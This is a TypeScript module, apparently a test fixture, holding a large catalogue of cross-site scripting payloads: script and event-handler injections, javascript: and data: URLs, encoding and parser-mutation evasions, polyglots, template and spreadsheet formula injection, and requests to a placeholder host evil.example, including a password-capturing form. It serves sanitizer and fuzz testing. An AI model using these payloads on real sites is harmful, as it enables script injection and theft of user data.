/**
 * What people may type as code. `RUN` stands where script would run, `EVIL` where a request would leave to another server: in
 * each payload they become a call with its number, and an address of a host that does not exist.
 */
export const HOST = "evil.example";

const WRITTEN: readonly string[] = [
  // Script elements.
  `<script>RUN</script>`,
  `<SCRIPT>RUN</SCRIPT>`,
  `<ScRiPt >RUN</sCrIpT >`,
  `<script src=EVIL/a.js></script>`,
  `<script src="data:text/javascript,RUN"></script>`,
  `<script type="module">RUN</script>`,
  `<script/src="EVIL/b.js"/x></script>`,
  `<<script>RUN//<</script>`,
  `<script\n>RUN</script\n>`,
  `<script\x00>RUN</script>`,
  `<scr<script>ipt>RUN</scr</script>ipt>`,
  `<script>/*<!--*/RUN/*-->*/</script>`,
  `<noscript><p title="</noscript><img src=x onerror=RUN>">`,
  // Handlers.
  `<img src=x onerror=RUN>`,
  `<img src=x onerror="RUN"/>`,
  `<IMG SRC=x ONERROR='RUN'>`,
  `<img/src="x"/onerror=RUN//`,
  `<img src=x:x onerror&#61;"RUN">`,
  `<img src=\`x\` onerror=\`RUN\`>`,
  `<img src=x\nonerror\n=\nRUN>`,
  `<image src=x onerror=RUN>`,
  `<body onload=RUN>`,
  `<body onpageshow=RUN>`,
  `<input autofocus onfocus=RUN>`,
  `<select autofocus onfocus=RUN><option>1</select>`,
  `<textarea autofocus onfocus=RUN></textarea>`,
  `<button autofocus onfocus=RUN>x</button>`,
  `<details open ontoggle=RUN><summary>x</summary></details>`,
  `<video src=x onerror=RUN></video>`,
  `<video><source onerror=RUN></video>`,
  `<audio src=x onerror=RUN></audio>`,
  `<div style="animation:x 1s" onanimationstart=RUN>x</div>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=RUN>x`,
  `<marquee onstart=RUN>x</marquee>`,
  `<div tabindex=1 autofocus onfocusin=RUN>x</div>`,
  `<a href=# onmouseover=RUN>наведите</a>`,
  `<p onpointerenter=RUN>наведите</p>`,
  `<form oninput=RUN><input></form>`,
  `<object data=x onerror=RUN></object>`,
  `<track onerror=RUN src=x>`,
  `<iframe onload=RUN></iframe>`,
  `<link rel=stylesheet href=x onerror=RUN>`,
  `<style onload=RUN></style>`,
  `<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<div popover id=p onbeforetoggle=RUN>x</div><button popovertarget=p autofocus>x</button>`,
  `<xss contenteditable autofocus onfocus=RUN>x</xss>`,
  // SVG and MathML.
  `<svg onload=RUN>`,
  `<svg/onload=RUN//`,
  `<svg><script>RUN</script></svg>`,
  `<svg><script href="data:text/javascript,RUN"/></svg>`,
  `<svg><animate onbegin=RUN attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=RUN attributeName=x to=1></svg>`,
  `<svg><a xlink:href="javascript:RUN"><text y=20>нажмите</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"></svg>`,
  `<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>`,
  `<svg><image href="EVIL/s.png"></svg>`,
  `<math><mtext><img src=x onerror=RUN></mtext></math>`,
  `<math href="javascript:RUN">нажмите</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:RUN">нажмите</maction></math>`,
  // Addresses.
  `<a href="javascript:RUN">нажмите</a>`,
  `<a href="JaVaScRiPt:RUN">нажмите</a>`,
  `<a href="java\tscript:RUN">нажмите</a>`,
  `<a href="java&#10;script:RUN">нажмите</a>`,
  `<a href="&#x6A;avascript:RUN">нажмите</a>`,
  `<a href="\x01javascript:RUN">нажмите</a>`,
  `<a href="javascript&colon;RUN">нажмите</a>`,
  `<a href="data:text/html,<script>RUN</script>">нажмите</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">нажмите</a>`,
  `<a href="vbscript:RUN">нажмите</a>`,
  `<a href="blob:null/RUN">нажмите</a>`,
  `javascript:RUN`,
  `javascript://%0aRUN`,
  `data:text/html,<script>RUN</script>`,
  `vbscript:RUN`,
  `jav\u00adascript:RUN`,
  `<img src="javascript:RUN">`,
  `<input type=image src="javascript:RUN">`,
  // Entities and other spellings.
  `&lt;script&gt;RUN&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=RUN&amp;gt;`,
  `&#60;img src=x onerror=RUN&#62;`,
  `&#x3c;img src=x onerror=RUN&#x3e;`,
  `\\u003cimg src=x onerror=RUN\\u003e`,
  `\\x3cimg src=x onerror=RUN\\x3e`,
  `%3Cimg%20src%3Dx%20onerror%3DRUN%3E`,
  `%253Cscript%253ERUN%253C/script%253E`,
  `＜img src=x onerror=RUN＞`,
  `‹img src=x onerror=RUN›`,
  `<ſcript>RUN</ſcript>`,
  `+ADw-script+AD4-RUN+ADw-/script+AD4-`,
  `\u0000<img src=x onerror=RUN>`.slice(1),
  `<img\u00a0src=x\u00a0onerror=RUN>`,
  `<img\u2028src=x\u2028onerror=RUN>`,
  // Breaking out of what stands around.
  `"><img src=x onerror=RUN>`,
  `'><img src=x onerror=RUN>`,
  `" autofocus onfocus="RUN`,
  `' autofocus onfocus='RUN`,
  `" onmouseover="RUN" x="`,
  `\`-RUN-\``,
  `';RUN//`,
  `";RUN//`,
  `\\";RUN//`,
  `</script><script>RUN</script>`,
  `</title><script>RUN</script>`,
  `</textarea><img src=x onerror=RUN>`,
  `</style><img src=x onerror=RUN>`,
  `</option></select><img src=x onerror=RUN>`,
  `--><img src=x onerror=RUN><!--`,
  `]]><img src=x onerror=RUN>`,
  `*/RUN/*`,
  `\${RUN}`,
  `{{RUN}}`,
  `{{constructor.constructor('RUN')()}}`,
  `<%= RUN %>`,
  `#{RUN}`,
  `@{RUN}`,
  `=HYPERLINK("EVIL/x","нажмите")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  // Style.
  `<style>body{background:url(EVIL/c.png)}</style>`,
  `<style>@import "EVIL/d.css";</style>`,
  `<p style="background:url(EVIL/e.png)">x</p>`,
  `<p style="background-image:\\75\\72\\6c(EVIL/f.png)">x</p>`,
  `<div style="width:expression(RUN)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">закрыто</div>`,
  `<link rel=stylesheet href=EVIL/g.css>`,
  `}body{background:url(EVIL/h.png)}`,
  // What leads or asks elsewhere.
  `<meta http-equiv=refresh content="0;url=EVIL/i">`,
  `<meta http-equiv=refresh content="0;url=javascript:RUN">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href=EVIL/>`,
  `<iframe src="EVIL/j"></iframe>`,
  `<iframe src="javascript:RUN"></iframe>`,
  `<iframe srcdoc="<script>parent.RUN</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>`,
  `<embed src="EVIL/k.swf">`,
  `<embed src="data:text/html,<script>RUN</script>">`,
  `<object data="data:text/html,<script>RUN</script>"></object>`,
  `<form action="javascript:RUN"><button autofocus>нажмите</button></form>`,
  `<form action=EVIL/l><input name=password autofocus></form>`,
  `<button form=x formaction="javascript:RUN">нажмите</button>`,
  `<input type=submit formaction="EVIL/m">`,
  `<img src="EVIL/n.png">`,
  `<img srcset="EVIL/o.png 1x">`,
  `<picture><source srcset=EVIL/p.png><img></picture>`,
  `<video poster=EVIL/q.png></video>`,
  `<a ping=EVIL/r href=#>x</a>`,
  `<link rel=prefetch href=EVIL/t>`,
  `<link rel=dns-prefetch href=EVIL>`,
  `<template><img src=x onerror=RUN></template>`,
  `<template shadowrootmode=open><img src=x onerror=RUN></template>`,
  `<portal src=EVIL/u></portal>`,
  // What changes when it is read twice.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=RUN>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>`,
  `<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>`,
  `<listing>&lt;img src=x onerror=RUN&gt;</listing>`,
  `<plaintext><img src=x onerror=RUN>`,
  `<a id=\`x\`onclick=RUN>x</a\`>`,
  `<table background="javascript:RUN"><td background=EVIL/v>`,
  `<div id=app></div><img name=body src=x><form id=document><input name=cookie></form>`,
  `<img id=__xss name=currentScript>`,
  // Markdown and addresses in the text.
  `[нажмите](javascript:RUN)`,
  `[нажмите](JaVaScRiPt:RUN "x")`,
  `[нажмите](data:text/html,<script>RUN</script>)`,
  `[нажмите](vbscript:RUN)`,
  `[x](https://${HOST}/"onmouseover="RUN)`,
  `![x](EVIL/w.png)`,
  `![x](x"onerror="RUN)`,
  `![x](javascript:RUN)`,
  `[x]: javascript:RUN\n[x]`,
  `<javascript:RUN>`,
  `<https://${HOST}/"onclick=RUN>`,
  `https://${HOST}/"onmouseover="RUN`,
  `https://${HOST}/<script>RUN</script>`,
  `http://x@${HOST}:80/'><img src=x onerror=RUN>`,
  `mailto:a@b.test?subject=<img src=x onerror=RUN>`,
  "```html\n<img src=x onerror=RUN>\n```",
  "`<img src=x onerror=RUN>`",
  `# <img src=x onerror=RUN>`,
  `| <img src=x onerror=RUN> |\n|--|\n| x |`,
  `> <script>RUN</script>`,
  `- [ ] <img src=x onerror=RUN>`,
  `**<img src=x onerror=RUN>**`,
  `<!-- --!><img src=x onerror=RUN> -->`,
  `<?xml version="1.0"?><x xmlns:a="http://www.w3.org/1999/xhtml"><a:script>RUN</a:script></x>`,
  `<![CDATA[<img src=x onerror=RUN>]]>`,
  // What is read in many places.
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e`,
  `'">><marquee><img src=x onerror=RUN></marquee>"></plaintext\\></|\\><plaintext/onmouseover=RUN>`,
  `\`"'><img src='#\\x27 onerror=RUN>`,
  `';alert(String.fromCharCode(88,83,83))//"><SCRIPT>alert(1)</SCRIPT>`,
  // What cannot be seen, and what turns the line round.
  `<scr\u200bipt>RUN</scr\u200bipt>`,
  `\u202e<img src=x onerror=RUN>\u202c`,
  `\u2066<script>RUN</script>\u2069`,
  `\ufeff<script>RUN</script>`,
  `<img src=x onerror=RUN>\u0301\u0301\u0301\u0301`,
  `e\u0301<svg onload=RUN>👩‍👩‍👧‍👦`,
  // Very long.
  `${"<b>".repeat(300)}<img src=x onerror=RUN>`,
  `<a href="${" ".repeat(500)}javascript:RUN">нажмите</a>`,
  `<img src="${"я".repeat(600)}" onerror=RUN>`,
];

/** The payloads, each with its number and once. */
export const PAYLOADS: readonly string[] = [...new Set(WRITTEN)].map((text, number) =>
  text.replaceAll("RUN", `__xss(${number})`).replaceAll("EVIL", `https://${HOST}`),
);

let turn = 0;

/** As many payloads in a row as there is room for, going on where the last field ended, so that short fields get all of them in turn. */
export function payloads(room: number): string {
  let text = "";
  for (let tried = 0; tried < PAYLOADS.length; tried += 1) {
    const next = PAYLOADS[turn % PAYLOADS.length] ?? "";
    const joined = text ? `${text}\n${next}` : next;
    if ([...joined].length > room) {
      // One that is too long for an empty field is left to a longer one.
      if (text) return text;
      turn += 1;
      continue;
    }
    text = joined;
    turn += 1;
  }
  return text;
}

/** One of them on one line, for what has no line breaks: names, titles. */
export function line(room: number): string {
  for (let tried = 0; tried < PAYLOADS.length; tried += 1) {
    const next = (PAYLOADS[turn++ % PAYLOADS.length] ?? "").replaceAll("\n", " ");
    if ([...next].length <= room) return next;
  }
  return "<b>";
}
